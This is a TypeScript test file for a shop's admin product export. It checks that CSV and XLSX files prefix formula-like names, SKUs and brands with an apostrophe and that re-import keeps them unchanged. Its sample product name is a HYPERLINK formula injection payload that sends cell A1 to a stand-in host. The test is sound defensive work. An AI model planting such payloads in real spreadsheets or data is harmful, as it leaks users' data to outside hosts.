import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { runsOn } from '../../helpers/databases.ts';
import { useShopUnderTest } from '../../helpers/shop-under-test.ts';
import { adminAndCustomerTokens, bearer, form } from '../../helpers/admin-session.ts';
import { insertProduct } from '../../helpers/checkout-fixtures.ts';

const backends = runsOn('pglite');

// A product name an admin (or an imported supplier list) gave as a formula must reach the
// export as text: opened in Excel it would otherwise run, a link to anywhere in the admin's sheet.

const NAME = '=HYPERLINK("http://kotu.example/?d="&A1,"Kablo")';

describe.each(backends)('the product export keeps formulas inert (%s)', (backend) => {
  const shop = useShopUnderTest(backend);
  let token = '';
  const auth = async () => (token ||= (await adminAndCustomerTokens(shop.db.sql)).admin);
  const download = async (kind: 'csv' | 'xlsx') => {
    const res = await fetch(`${shop.server.url}/api/admin/products/export.${kind}`, { headers: bearer(await auth()) });
    expect(res.status).toBe(200);
    return res.arrayBuffer();
  };

  it('writes a formula-like name with a leading apostrophe, and the import reads the name back unchanged', async () => {
    const id = await insertProduct(shop.db.sql, { name: NAME, stock: 5 });
    await shop.db
      .sql`UPDATE products SET sku = '-FORMUL-1', brand = '@marka', description = '+90 312' WHERE id = ${id}`;

    const csv = await download('csv');
    const [header, row] = parse(Buffer.from(csv), { delimiter: ';', bom: true }) as string[][];
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('product_name')).toBe(`'${NAME}`);
    expect(cell('sku')).toBe("'-FORMUL-1");
    expect(cell('brand')).toBe("'@marka");
    expect(cell('description')).toBe("'+90 312");

    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await download('xlsx'));
    const sheet = book.worksheets[0]!;
    const texts = sheet.getRow(2).values as unknown[];
    for (const value of texts) if (typeof value === 'string') expect(value).not.toMatch(/^[=+\-@\t\r]/);
    expect(texts).toContain(`'${NAME}`);

    for (const file of [new File([csv], 'urunler.csv'), new File([await download('xlsx')], 'urunler.xlsx')]) {
      const res = await fetch(`${shop.server.url}/api/admin/products/import`, {
        method: 'POST',
        headers: bearer(await auth()),
        body: form({ file }),
      });
      expect(await res.json()).toMatchObject({ created: 0, updated: 0, unchanged: 1, errors: [] });
    }
    const [product] = await shop.db.sql`SELECT name, sku, brand, description FROM products WHERE id = ${id}`;
    expect(product).toEqual({ name: NAME, sku: '-FORMUL-1', brand: '@marka', description: '+90 312' });
  });
});
